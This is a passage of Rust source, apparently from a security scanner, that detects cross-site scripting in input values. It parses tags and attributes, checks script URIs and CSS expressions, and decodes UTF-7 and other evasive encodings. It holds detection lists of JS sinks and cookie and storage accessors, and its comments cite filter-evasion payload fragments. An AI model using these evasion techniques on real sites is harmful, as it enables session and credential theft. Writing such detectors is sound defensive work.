//! Cross-site scripting: an HTML tag and attribute scanner plus URI and
//! JavaScript-context checks.
//!
//! Markup is judged by what a browser would run: a `<script>` element, an
//! event-handler attribute on any tag, a `javascript:`/`vbscript:`/`data:`
//! URI in a URL attribute, frames and objects that load content, CSS
//! expressions; outside markup, a value that is itself a script URI or that
//! breaks out of an attribute or a JS string into a sink. Plain formatting
//! (`<b>bold</b>`, `<a href="https://...">`, `a < b`) is not flagged.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::gate;
use super::sqli::Found;

/// Every word [`script_value`] reacts to: squeezed text with none of them
/// (and not JSFuck) needs no further look.
const SCRIPT_WORDS: &[&str] = &[
    "window",
    "self",
    "top",
    "parent",
    "this",
    "frames",
    "document",
    "location",
    "localstorage.",
    "sessionstorage.",
    "alert",
    "prompt",
    "confirm",
    "eval",
    "settimeout",
    "setinterval",
    "execscript",
    "atob",
    "function",
    ".call",
    ".apply",
    "import",
    "btoa",
];

static SCRIPT_AC: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| AhoCorasick::new(SCRIPT_WORDS).ok());

/// The proof sinks, any case.
static PROOF_SINKS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(["alert", "prompt", "confirm"])
        .ok()
});

const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "poster",
    "code",
    "codebase",
    "dynsrc",
    "lowsrc",
    "srcdoc",
    "to",
    "values",
    "from",
    "by",
];

const LOADING_TAGS: &[&str] = &[
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "import",
    "vmlframe", "include", "link",
];

/// Event-handler attribute names (without `on`) browsers fire, for values
/// that inject an attribute without a tag (`" onfocus=`, `x onload=`).
const EVENTS: &[&str] = &[
    "abort",
    "afterprint",
    "animationend",
    "animationiteration",
    "animationstart",
    "auxclick",
    "beforecopy",
    "beforecut",
    "beforeinput",
    "beforepaste",
    "beforeprint",
    "beforetoggle",
    "beforeunload",
    "begin",
    "blur",
    "bounce",
    "canplay",
    "canplaythrough",
    "change",
    "click",
    "close",
    "contextmenu",
    "copy",
    "cuechange",
    "cut",
    "dblclick",
    "drag",
    "dragend",
    "dragenter",
    "dragleave",
    "dragover",
    "dragstart",
    "drop",
    "durationchange",
    "end",
    "ended",
    "error",
    "finish",
    "focus",
    "focusin",
    "focusout",
    "formdata",
    "fullscreenchange",
    "hashchange",
    "input",
    "invalid",
    "keydown",
    "keypress",
    "keyup",
    "load",
    "loadeddata",
    "loadedmetadata",
    "loadstart",
    "message",
    "mousedown",
    "mouseenter",
    "mouseleave",
    "mousemove",
    "mouseout",
    "mouseover",
    "mouseup",
    "mousewheel",
    "offline",
    "online",
    "pagehide",
    "pageshow",
    "paste",
    "pause",
    "play",
    "playing",
    "pointerdown",
    "pointerenter",
    "pointerleave",
    "pointermove",
    "pointerout",
    "pointerover",
    "pointerrawupdate",
    "pointerup",
    "popstate",
    "progress",
    "ratechange",
    "repeat",
    "reset",
    "resize",
    "scroll",
    "scrollend",
    "search",
    "seeked",
    "seeking",
    "select",
    "selectionchange",
    "selectstart",
    "show",
    "start",
    "stalled",
    "storage",
    "submit",
    "suspend",
    "timeupdate",
    "toggle",
    "touchend",
    "touchmove",
    "touchstart",
    "transitioncancel",
    "transitionend",
    "transitionrun",
    "transitionstart",
    "unhandledrejection",
    "unload",
    "volumechange",
    "waiting",
    "webkitanimationend",
    "webkitanimationiteration",
    "webkitanimationstart",
    "webkitplaybacktargetavailabilitychanged",
    "webkittransitionend",
    "wheel",
];

const SINKS: &[&str] = &[
    "alert",
    "prompt",
    "confirm",
    "eval",
    "settimeout",
    "setinterval",
    "function",
    "fetch",
    "document.write",
    "document.cookie",
    "document.domain",
    "document.location",
    "window.location",
    "location.href",
    "string.fromcharcode",
    "atob",
    "import",
    "constructor",
    "top[",
    "self[",
    "window[",
    "this[",
    "parent[",
    "print",
];

/// Lower-cased `s` with control characters and whitespace removed, as
/// browsers ignore them inside a URI scheme (`java\tscript:`).
fn squeeze(s: &str) -> String {
    s.chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .take(64)
        .collect::<String>()
        .to_ascii_lowercase()
}

fn script_uri(v: &str) -> Option<Found> {
    let v = v.trim_start_matches(['"', '\'', ' ', '`']);
    // Every scheme below starts with one of these letters: most values
    // are told apart by their first squeezed character, with no copy.
    let first = v.chars().find(|c| !c.is_whitespace() && !c.is_control());
    if !first.is_some_and(|c| matches!(c.to_ascii_lowercase(), 'j' | 'v' | 'l' | 'd')) {
        return None;
    }
    let v = squeeze(v);
    if v.starts_with("javascript:") || v.starts_with("vbscript:") || v.starts_with("livescript:") {
        return Some(("xss.script_uri", 0.9));
    }
    if v.starts_with("data:text/html")
        || v.starts_with("data:image/svg")
        || v.starts_with("data:application/x")
    {
        return Some(("xss.data_uri", 0.8));
    }
    // `data:,<x>`: markup in a data URI of any (or no) media type.
    if let Some((mime, body)) = v.strip_prefix("data:").and_then(|r| r.split_once(',')) {
        let markup = body
            .strip_prefix('<')
            .is_some_and(|t| t.starts_with(|c: char| c.is_ascii_alphabetic()));
        if markup && mime.bytes().all(|c| c.is_ascii_graphic()) {
            return Some(("xss.data_uri", 0.7));
        }
    }
    None
}

/// A JS sink named at the start of `s` (after blanks), with a call or access after it.
fn sink_at(s: &str) -> bool {
    let t = s.trim_start_matches([' ', '\t', '\n', '(', '[', '+', '-', '!', '~']);
    let lower: String = t.chars().take(24).collect::<String>().to_ascii_lowercase();
    SINKS.iter().any(|k| {
        lower.starts_with(k)
            && lower.get(k.len()..).is_some_and(|r| {
                r.is_empty() || r.starts_with(['(', '`', '.', '[', ' ', '=']) || k.ends_with('[')
            })
    })
}

fn best(a: Option<Found>, b: Option<Found>) -> Option<Found> {
    match (a, b) {
        (Some(x), Some(y)) => Some(if y.1 > x.1 { y } else { x }),
        (x, None) => x,
        (None, y) => y,
    }
}

/// Scans the tags of `s`.
fn tags(s: &str) -> Option<Found> {
    let b = s.as_bytes();
    let mut found = None;
    let mut i = 0;
    let mut seen = 0;
    // Raw-text elements the value opened, by [`RAWTEXT`] slot (a script
    // is never counted: its opening tag is flagged already).
    let mut opened = [0u32; RAWTEXT.len()];
    // Whether the value is a whole HTML document, once a `<meta>` asks.
    let mut document = None;
    while let Some(p) = b.get(i..).and_then(|r| memchr::memchr(b'<', r)) {
        let lt = i + p;
        i = lt + 1;
        seen += 1;
        if seen > 256 {
            break;
        }
        let mut j = lt + 1;
        // `<?import implementation=...>` (IE behaviours).
        if b.get(j) == Some(&b'?')
            && b.get(j + 1..j + 7)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"import"))
        {
            found = best(found, Some(("xss.loading_tag", 0.7)));
        }
        let closing = b.get(j) == Some(&b'/');
        if closing {
            j += 1;
        }
        if !closing {
            found = best(found, split_tag(b.get(j..).unwrap_or(&[])));
        }
        // `<:vmlframe`: an empty namespace prefix.
        if b.get(j) == Some(&b':') {
            j += 1;
        }
        let name_start = j;
        while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], b':' | b'-' | b'_')) {
            j += 1;
        }
        if j == name_start || !b[name_start].is_ascii_alphabetic() {
            continue;
        }
        let full = s.get(name_start..j).unwrap_or("").to_ascii_lowercase();
        // `<v:vmlframe>`, `<xi:include>`: judge the local name.
        let name = full.rsplit(':').next().unwrap_or("").to_string();
        if closing {
            // `</script>` or `</title>` breaking out of a raw-text element;
            // not the end of one the value opened itself (an HTML page's
            // `<title>`, a form's `<textarea>`, a plain stylesheet).
            if let Some(open) = rawtext(&name).and_then(|k| opened.get_mut(k)) {
                if *open > 0 {
                    *open -= 1;
                    continue;
                }
                found = best(found, Some(("xss.close_rawtext", 0.6)));
            }
            continue;
        }
        // `<importimplementation=` (IE's `<?import implementation`), `<noscript#`.
        if name.starts_with("import") && name.contains("implementation") {
            found = best(found, Some(("xss.loading_tag", 0.7)));
        }
        if name == "noscript" {
            found = best(found, Some(("xss.close_rawtext", 0.6)));
        }
        // A tag name must be followed by blank, `/`, `>` or end.
        if !matches!(
            b.get(j),
            None | Some(b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'/' | b'>')
        ) {
            continue;
        }
        // A tag that loads something, but not a document's own `<link>`s
        // nor a video or map player a rich-text field embeds.
        let loads = LOADING_TAGS.contains(&name.as_str())
            && !(name == "link"
                && *document.get_or_insert_with(|| whole_document(s))
                && plain_link(s.get(j..).unwrap_or("")))
            && !(name == "iframe" && player_embed(s.get(j..).unwrap_or("")))
            && !(matches!(name.as_str(), "object" | "embed")
                && document_embed(s.get(j..).unwrap_or(""), &name));
        match name.as_str() {
            "script" => found = best(found, Some(("xss.script_tag", 0.95))),
            // An HTML e-mail or a CMS page carries its own stylesheet; a
            // style element is an attack for what its sheet does (imports,
            // bindings, escapes, a probe with no sheet at all).
            "style" => {
                if plain_stylesheet(s.get(j..).unwrap_or("")) {
                    count_open(&mut opened, &name);
                } else {
                    found = best(found, Some(("xss.style_tag", 0.6)));
                }
            }
            "title" | "textarea" => count_open(&mut opened, &name),
            _ if loads => found = best(found, Some(("xss.loading_tag", 0.75))),
            "meta" => {
                let whole = *document.get_or_insert_with(|| whole_document(s));
                found = best(found, meta(s.get(j..).unwrap_or(""), whole));
            }
            _ => {}
        }
        // Attributes up to `>` (or the end: a payload need not be closed).
        let end = b
            .get(j..)
            .and_then(|r| memchr::memchr(b'>', r))
            .map_or(b.len(), |e| j + e);
        found = best(found, attributes(s.get(j..end).unwrap_or(""), loads));
        i = end.max(i);
        if found.is_some_and(|f| f.1 >= 0.95) {
            break;
        }
    }
    found
}

/// Tag names that run or load something, for [`split_tag`].
const SPLIT_NAMES: &[&str] = &[
    "script", "form", "style", "svg", "iframe", "frame", "object", "embed", "applet", "base",
    "body", "meta", "link", "import", "marquee", "dialog", "isindex", "video", "audio", "math",
];

/// A dangerous tag name written with blanks or junk between its letters or
/// behind a namespace, as filters that strip them see it: `<f o r m`,
/// `< x: script`, `<s/c/r/i/p/t`. `b` starts right after `<`. Plain
/// `<form` is [`tags`]' job, so some separation is required.
fn split_tag(b: &[u8]) -> Option<Found> {
    let mut word = [0u8; 16];
    let mut n = 0;
    let mut i = 0;
    while b.get(i).is_some_and(|c| c.is_ascii_whitespace()) {
        i += 1;
    }
    // `x: ` before the name counts as separation (`<soap:Body>` does not).
    let p = b
        .get(i..)
        .unwrap_or(&[])
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric())
        .count();
    let prefixed = p > 0
        && p < 12
        && b.get(i + p) == Some(&b':')
        && b.get(i + p + 1).is_some_and(|c| c.is_ascii_whitespace());
    if prefixed {
        i += p + 1;
        while b.get(i).is_some_and(|c| c.is_ascii_whitespace()) {
            i += 1;
        }
    }
    // Separators inside the name, and the letters since the last one.
    let (mut inner, mut run) = (0, 0);
    while let Some(&c) = b.get(i) {
        if n >= word.len() {
            break;
        }
        if c.is_ascii_alphabetic() {
            run += 1;
            if let Some(w) = word.get_mut(n) {
                *w = c.to_ascii_lowercase();
            }
            n += 1;
        } else if n > 0
            && matches!(
                c,
                b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'/' | b'+' | b'\0'
            )
        {
            if run > 1 && inner == 0 && !prefixed {
                // `<form x`, `< body of`: a whole word, judged by `tags` if at all.
                return None;
            }
            run = 0;
            inner += 1;
        } else {
            break;
        }
        i += 1;
        let w = word.get(..n).unwrap_or(&[]);
        // A prefixed whole word must end the value or the tag: `< x: script>`,
        // not `if a < b: script runs`.
        let ends = match b.get(i) {
            None => true,
            Some(c) if inner > 0 => !c.is_ascii_alphabetic(),
            Some(c) => matches!(c, b'>' | b'/'),
        };
        if (inner > 0 || prefixed) && ends && SPLIT_NAMES.iter().any(|k| k.as_bytes() == w) {
            // The name ends there: not `<s c r i p t u r e`.
            return Some(("xss.split_tag", 0.75));
        }
    }
    None
}

/// Judges the attributes text of one tag.
fn attributes(a: &str, loads: bool) -> Option<Found> {
    let b = a.as_bytes();
    let mut found = None;
    let mut i = 0;
    let mut n = 0;
    while i < b.len() && n < 64 {
        n += 1;
        while i < b.len() && (b[i].is_ascii_whitespace() || matches!(b[i], b'/' | b'"' | b'\'')) {
            i += 1;
        }
        let ns = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'=' | b'/' | b'>') {
            i += 1;
        }
        let name = a.get(ns..i).unwrap_or("").to_ascii_lowercase();
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        let mut value = "";
        if b.get(i) == Some(&b'=') {
            i += 1;
            while i < b.len() && b[i].is_ascii_whitespace() {
                i += 1;
            }
            let vs = i;
            match b.get(i) {
                Some(&q @ (b'"' | b'\'' | b'`')) => {
                    let close = b
                        .get(i + 1..)
                        .and_then(|r| memchr::memchr(q, r))
                        .map_or(b.len(), |e| i + 1 + e);
                    value = a.get(vs + 1..close).unwrap_or("");
                    i = close + 1;
                }
                _ => {
                    while i < b.len() && !b[i].is_ascii_whitespace() && b[i] != b'>' {
                        i += 1;
                    }
                    value = a.get(vs..i).unwrap_or("");
                }
            }
        }
        if name.is_empty() {
            i += 1;
            continue;
        }
        let f = if name.len() > 4
            && name.starts_with("on")
            && name.bytes().skip(2).all(|c| c.is_ascii_alphabetic())
        {
            let known = EVENTS.iter().any(|e| name.get(2..) == Some(e));
            let jsx = value.starts_with('{') && value.ends_with('}');
            if jsx {
                // JSX (`onClick={handler}`) is source code, not markup.
                None
            } else if known || value.contains(['(', '`', '=']) {
                Some(("xss.event_handler", 0.95))
            } else {
                Some(("xss.event_handler", 0.7))
            }
        } else if URL_ATTRS.contains(&name.as_str()) {
            script_uri(value).or_else(|| {
                (name == "srcdoc" || (loads && !value.is_empty()))
                    .then_some(("xss.loading_tag", 0.8))
            })
        } else if name == "style" {
            let v = squeeze(value);
            (v.contains("expression(")
                || v.contains("javascript:")
                || v.contains("-moz-binding")
                || v.contains("behavior:"))
            .then_some(("xss.css_expression", 0.8))
        } else {
            None
        };
        found = best(found, f);
    }
    found
}

/// Whether `b[at..]` starts an event-handler attribute: `on` + a known
/// event, blanks, `=`.
fn handler_at(b: &[u8], at: usize) -> bool {
    let rest = b.get(at..).unwrap_or(&[]);
    if rest.len() < 5 || !rest[..2].eq_ignore_ascii_case(b"on") {
        return false;
    }
    let n = rest
        .iter()
        .skip(2)
        .take_while(|c| c.is_ascii_alphabetic())
        .count();
    let name = rest.get(2..2 + n).unwrap_or(&[]);
    let after = rest.get(2 + n..).unwrap_or(&[]);
    let eq = after
        .iter()
        .find(|c| !matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c'))
        == Some(&b'=');
    eq && EVENTS
        .iter()
        .any(|e| e.as_bytes().eq_ignore_ascii_case(name))
}

/// An event handler injected as an attribute without a tag: `x onload=`,
/// `" autofocus onfocus=`, `;onfocus=eval(...)`.
fn bare_handler(b: &[u8]) -> Option<Found> {
    let mut from = 0;
    let mut n = 0;
    while let Some(p) = b.get(from..).and_then(|r| memchr::memchr2(b'o', b'O', r)) {
        let at = from + p;
        from = at + 1;
        n += 1;
        if n > 256 {
            break;
        }
        let prev = at.checked_sub(1).and_then(|q| b.get(q).copied());
        let boundary = matches!(
            prev,
            None | Some(b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'"' | b'\'' | b'`' | b'/' | b';')
        );
        // JSX `onClick={handler}` is source code, not an injected attribute.
        let jsx = b
            .get(at..)
            .and_then(|r| memchr::memchr(b'=', r))
            .and_then(|e| b.get(at + e + 1..))
            .is_some_and(|v| v.trim_ascii_start().starts_with(b"{"));
        if boundary && !jsx && handler_at(b, at) {
            return Some(("xss.attr_breakout", 0.85));
        }
    }
    None
}

/// Lower-cased `s` with JS comments and blanks outside strings removed, so
/// `document /*x*/ . cookie` reads `document.cookie`; capped.
fn js_squeeze(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len().min(4096));
    let mut i = 0;
    while i < b.len() && out.len() < 4096 {
        match b[i] {
            b'/' if b.get(i + 1) == Some(&b'*') => {
                i = b
                    .get(i + 2..)
                    .and_then(|r| memchr::memmem::find(r, b"*/"))
                    .map_or(b.len(), |e| i + 2 + e + 2);
            }
            c if c.is_ascii_whitespace() => i += 1,
            c => {
                out.push(c.to_ascii_lowercase());
                i += 1;
            }
        }
    }
    // Valid UTF-8 (the common case) is kept without a second copy.
    String::from_utf8(out).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

/// Script written as a value: DOM sinks, sink calls, bracket access to
/// globals, tagged templates, JSFuck.
fn script_value(s: &str) -> Option<Found> {
    // JSFuck: a value built only from `[]()!+`.
    let fuck = s
        .bytes()
        .filter(|c| !c.is_ascii_whitespace())
        .all(|c| matches!(c, b'[' | b']' | b'(' | b')' | b'!' | b'+'));
    let j = js_squeeze(s);
    if !fuck
        && SCRIPT_AC
            .as_ref()
            .is_some_and(|ac| !ac.is_match(j.as_str()))
    {
        return None;
    }
    let mut found = None;
    // Globals reached through brackets: `self["alert"]`, `(document)["cookie"]`.
    for g in [
        "window",
        "self",
        "top",
        "parent",
        "this",
        "globalthis",
        "frames",
        "document",
    ] {
        for (at, _) in j.match_indices(g).take(8) {
            let prev = at.checked_sub(1).and_then(|p| j.as_bytes().get(p).copied());
            if prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.') {
                continue;
            }
            let rest = j.get(at + g.len()..).unwrap_or("");
            let rest = rest.strip_prefix(')').unwrap_or(rest);
            if rest.starts_with("[\"") || rest.starts_with("['") || rest.starts_with("[`") {
                found = best(found, Some(("xss.dom_access", 0.75)));
            }
        }
    }
    // DOM properties that read secrets or navigate.
    for k in [
        "document.cookie",
        "document.domain",
        "document.write",
        "document.location",
        "window.location",
        "window.name",
        "location.href",
        "location.hash",
        "localstorage.",
        "sessionstorage.",
    ] {
        if let Some(at) = j.find(k) {
            let prev = at.checked_sub(1).and_then(|p| j.as_bytes().get(p).copied());
            // What follows is not a word: `document.cookie expires soon`
            // squeezes to `document.cookieexpires...`, prose that names the
            // property (no script goes on with a bare word).
            let next = j.as_bytes().get(at + k.len()).copied();
            let word_after = !k.ends_with('.')
                && next.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'$');
            if !prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_') && !word_after {
                found = best(found, Some(("xss.dom_access", 0.6)));
            }
        }
    }
    // Sinks called or used as a tag: `alert()`, `eval('..')`, `.call`x``,
    // `new Function(`.
    for k in [
        "alert",
        "prompt",
        "confirm",
        "eval",
        "settimeout",
        "setinterval",
        "execscript",
        "atob",
        "btoa",
        "function",
        ".call",
        ".apply",
        "import",
    ] {
        for (at, _) in j.match_indices(k).take(8) {
            let prev = at.checked_sub(1).and_then(|p| j.as_bytes().get(p).copied());
            let after_new = k == "function" && j.get(..at).is_some_and(|p| p.ends_with("new"));
            if !k.starts_with('.')
                && !after_new
                && prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'$')
            {
                continue;
            }
            let rest = j.get(at + k.len()..).unwrap_or("");
            let f = if rest.starts_with('`') {
                Some(0.75)
            } else if rest.starts_with('(') && !k.starts_with('.') {
                match k {
                    "alert" | "prompt" | "confirm" | "eval" | "settimeout" | "setinterval"
                    | "execscript"
                        if !js_arg(rest.get(1..).unwrap_or("")) =>
                    {
                        None
                    }
                    "function" => j
                        .get(..at)
                        .is_some_and(|p| p.ends_with("new"))
                        .then_some(0.6),
                    "import" => rest
                        .trim_start_matches('(')
                        .starts_with(['\'', '"', '`'])
                        .then_some(0.6)
                        .filter(|_| rest.contains("//")),
                    // `atob()`, `btoa('..')`: a probe, not code that uses a variable.
                    "atob" | "btoa" => rest
                        .get(1..)
                        .is_some_and(|a| a.starts_with([')', '\'', '"', '`']))
                        .then_some(0.6),
                    _ => Some(0.6),
                }
            } else {
                None
            };
            found = best(found, f.map(|c| ("xss.sink_call", c)));
        }
    }
    // A whole value that is a DOM-writing statement:
    // `document.querySelector("p").textContent="XSS"`.
    if (j.starts_with("document.") || j.starts_with("window."))
        && [
            ".textcontent=",
            ".innertext=",
            ".innerhtml=",
            ".outerhtml=",
            ".appendchild(",
            ".insertadjacenthtml(",
            ".createelement(",
        ]
        .iter()
        .any(|k| j.contains(k))
    {
        found = best(found, Some(("xss.dom_statement", 0.6)));
    }
    // `${alert}` inside a template.
    if j.contains("${alert}") || j.contains("${prompt}") || j.contains("${confirm}") {
        found = best(found, Some(("xss.sink_call", 0.75)));
    }
    if fuck && (j.matches("[]").count() >= 2 && j.contains('!') || j.contains("!![]")) {
        found = best(found, Some(("xss.jsfuck", 0.7)));
    }
    found
}

/// Whether `a` (squeezed text after a sink's `(`) starts an argument a
/// payload passes: a number, a string, nothing, a global, or a name then
/// `)` or `,` — not prose like `(yes/no)`.
fn js_arg(a: &str) -> bool {
    if a.is_empty() || a.starts_with([')', '\'', '"', '`', '/', '[', '{']) {
        return true;
    }
    if a.starts_with(|c: char| c.is_ascii_digit()) {
        return true;
    }
    let n = a
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$' | b'.'))
        .count();
    let id = a.get(..n).unwrap_or("");
    let after = a.get(n..).unwrap_or("");
    [
        "document", "window", "this", "self", "top", "string.", "atob", "location",
    ]
    .iter()
    .any(|g| id.starts_with(g))
        || (n > 0 && after.starts_with([')', ',', '(', '+', '[']))
}

/// Spellings that turn into markup on some decoders: UTF-7 (`+ADw-`) and
/// 8-bit US-ASCII with the high bit set (`¼script¾`).
fn fold_markup(s: &str) -> Option<String> {
    // Every spelling below needs a `%` (`%2bADw`), a `+` (`+ADw`), a
    // non-ASCII character (U+00BC) or a `\` (`\xbc`): one pass over the
    // bytes rules most values out before nine substring searches.
    if !s
        .bytes()
        .any(|c| matches!(c, b'%' | b'+' | b'\\') || !c.is_ascii())
    {
        return None;
    }
    fold_markup_ungated(s)
}

/// [`fold_markup`] without its byte gate (the tests hold the two together).
fn fold_markup_ungated(s: &str) -> Option<String> {
    let pct7 = ["%2bADw", "%2BADw", "%2bAD4", "%2BAD4"]
        .iter()
        .any(|k| gate::has(s, k));
    let utf7 = pct7 || gate::has(s, "+ADw") || gate::has(s, "+AD4");
    let high = s.contains('\u{bc}') && s.contains('\u{be}');
    // The same bytes written as `\xbc` escapes.
    let high_esc = gate::has(s, "\\xbc") && gate::has(s, "\\xbe");
    if !(utf7 || high || high_esc) {
        return None;
    }
    let mut t = s.to_string();
    if pct7 {
        t = t.replace("%2b", "+").replace("%2B", "+");
    }
    if utf7 {
        // A strict decode first (`+ADwAcwBj...-`); lenient pieces when a run
        // never ends where the payload meant it to (`+ADwscript`).
        // Both readings are judged, one per line.
        let strict = utf7_decode(&t);
        let lenient = t
            .replace("+ADw-", "<")
            .replace("+AD4-", ">")
            .replace("+ADw", "<")
            .replace("+AD4", ">")
            .replace("+ACI-", "\"");
        t = if strict == lenient {
            strict
        } else {
            format!("{strict}\n{lenient}")
        };
    }
    if high {
        t = t
            .replace('\u{bc}', "<")
            .replace('\u{be}', ">")
            .replace('\u{a2}', "\"");
    }
    if high_esc {
        t = t
            .replace("\\xbc", "<")
            .replace("\\xbe", ">")
            .replace("\\xa2", "\"");
    }
    Some(t)
}

/// Decodes UTF-7 (RFC 2152): `+` opens a run of modified base64 holding
/// UTF-16 code units, ended by `-` (dropped) or any other character; `+-`
/// is a plain `+`. So `+ADwAcwBjAHIAaQBwAHQAPg-` is `<script>` and
/// `onerror+AD0-x` is `onerror=x`. Linear; a bad unit becomes U+FFFD.
fn utf7_decode(s: &str) -> String {
    fn sextet(c: u8) -> Option<u32> {
        Some(u32::from(match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        }))
    }
    let b = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut units: Vec<u16> = Vec::new();
    let mut i = 0;
    let mut plain = 0;
    while let Some(at) = b
        .get(i..)
        .and_then(|r| memchr::memchr(b'+', r))
        .map(|k| i + k)
    {
        out.push_str(s.get(plain..at).unwrap_or(""));
        i = at + 1;
        if b.get(i) == Some(&b'-') {
            out.push('+');
            i += 1;
            plain = i;
            continue;
        }
        units.clear();
        let (mut acc, mut bits) = (0u32, 0u32);
        while let Some(v) = b.get(i).and_then(|c| sextet(*c)) {
            acc = (acc << 6 | v) & 0x00ff_ffff;
            bits += 6;
            if bits >= 16 {
                bits -= 16;
                units.push((acc >> bits) as u16);
            }
            i += 1;
        }
        if units.is_empty() {
            // `+` and no code unit: keep the text as written.
            out.push('+');
            plain = at + 1;
            i = plain;
            continue;
        }
        out.extend(char::decode_utf16(units.iter().copied()).map(|c| c.unwrap_or('\u{fffd}')));
        if b.get(i) == Some(&b'-') {
            i += 1;
        }
        plain = i;
    }
    out.push_str(s.get(plain..).unwrap_or(""));
    out
}

/// Raw-text elements: what they hold is text up to their end tag, which is
/// where a value breaks out of one.
const RAWTEXT: [&str; 4] = ["script", "title", "textarea", "style"];

/// The [`RAWTEXT`] slot of a tag name.
fn rawtext(name: &str) -> Option<usize> {
    RAWTEXT.iter().position(|n| *n == name)
}

/// One more raw-text element of `name` the value opened itself.
fn count_open(opened: &mut [u32; RAWTEXT.len()], name: &str) {
    if let Some(open) = rawtext(name).and_then(|k| opened.get_mut(k)) {
        *open += 1;
    }
}

/// Whether `rest` (what follows `<link`, in a [`whole_document`]) is a link
/// every page's head carries: a `rel` that styles, names or speeds up the
/// page (`stylesheet`, `icon`, `preconnect`, `canonical`, ...) and an
/// `href` to a web or relative address. Not an import, a prefetch of
/// another document, or a script scheme; an event handler on it is judged
/// with the other attributes.
fn plain_link(rest: &str) -> bool {
    const RELS: &[&str] = &[
        "stylesheet",
        "icon",
        "shortcut",
        "apple-touch-icon",
        "mask-icon",
        "manifest",
        "preconnect",
        "dns-prefetch",
        "preload",
        "canonical",
        "alternate",
        "author",
        "license",
        "next",
        "prev",
    ];
    let tag = tag_attributes(rest);
    let (Some(rel), Some(href)) = (attr_value(&tag, "rel"), attr_value(&tag, "href")) else {
        return false;
    };
    web_address(href)
        && !rel.trim().is_empty()
        && rel.split_ascii_whitespace().all(|r| RELS.contains(&r))
}

/// Whether `rest` (what follows `<iframe`) embeds a player of a video, map
/// or audio service by its embed address (`https://www.youtube.com/embed/ID`,
/// `https://player.vimeo.com/video/ID`): what CMS pages, product
/// descriptions and help articles carry. The page it loads is the
/// service's player, which no one injecting markup controls; an address
/// elsewhere, a `srcdoc` or an event handler is still judged.
fn player_embed(rest: &str) -> bool {
    const PLAYERS: &[&str] = &[
        "www.youtube.com/embed/",
        "youtube.com/embed/",
        "www.youtube-nocookie.com/embed/",
        "player.vimeo.com/video/",
        "www.google.com/maps/embed",
        "open.spotify.com/embed/",
        "w.soundcloud.com/player/",
        "www.loom.com/embed/",
        "fast.wistia.net/embed/",
    ];
    let tag = tag_attributes(rest);
    let Some(src) = attr_value(&tag, "src") else {
        return false;
    };
    let Some(at) = src
        .strip_prefix("https://")
        .or_else(|| src.strip_prefix("//"))
    else {
        return false;
    };
    attr_value(&tag, "srcdoc").is_none()
        && !at.contains("..")
        && PLAYERS.iter().any(|p| at.starts_with(p))
}

/// Whether `rest` (what follows `<object` or `<embed`, `name`) shows a PDF,
/// an image or a video from a web or relative address, typed so
/// (`<object type="application/pdf" data="/manual.pdf">`): how CMS pages
/// embed documents. No SVG (its scripts run), no HTML, no plugin.
fn document_embed(rest: &str, name: &str) -> bool {
    const MEDIA: &[(&str, &[&str])] = &[
        ("application/pdf", &[".pdf"]),
        ("image/png", &[".png"]),
        ("image/jpeg", &[".jpg", ".jpeg"]),
        ("image/gif", &[".gif"]),
        ("video/mp4", &[".mp4"]),
        ("video/webm", &[".webm"]),
        ("audio/mpeg", &[".mp3"]),
    ];
    let tag = tag_attributes(rest);
    let url = attr_value(&tag, if name == "object" { "data" } else { "src" });
    let (Some(kind), Some(url)) = (attr_value(&tag, "type"), url) else {
        return false;
    };
    let path = url.split(['?', '#']).next().unwrap_or("");
    web_address(path)
        && MEDIA
            .iter()
            .any(|(t, exts)| *t == kind && exts.iter().any(|x| path.ends_with(x)))
}

/// The attributes of a tag, lower-cased: `rest` (what follows its name)
/// up to its `>`.
fn tag_attributes(rest: &str) -> String {
    let end = memchr::memchr(b'>', rest.as_bytes()).unwrap_or(rest.len());
    rest.get(..end).unwrap_or("").to_ascii_lowercase()
}

/// Whether `url` is relative or an http(s) address: no other scheme before
/// its first `/`, `?` or `#`.
fn web_address(url: &str) -> bool {
    match url.find([':', '/', '?', '#']) {
        Some(e) if url.as_bytes().get(e) == Some(&b':') => {
            matches!(url.get(..e), Some("http" | "https"))
        }
        _ => true,
    }
}

/// The value of attribute `name` in `tag` (lower-cased attributes after a
/// tag name): quoted or bare.
fn attr_value<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let b = tag.as_bytes();
    let mut from = 0;
    while let Some(p) = tag.get(from..).and_then(|r| r.find(name)) {
        let at = from + p;
        from = at + name.len();
        let boundary = at
            .checked_sub(1)
            .and_then(|q| b.get(q))
            .is_some_and(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'/'));
        let rest = tag.get(from..).unwrap_or("").trim_start();
        let Some(rest) = rest.strip_prefix('=').filter(|_| boundary) else {
            continue;
        };
        let rest = rest.trim_start();
        return Some(match rest.as_bytes().first() {
            Some(&q @ (b'"' | b'\'')) => {
                let v = rest.get(1..).unwrap_or("");
                v.get(..v.find(q as char).unwrap_or(v.len())).unwrap_or("")
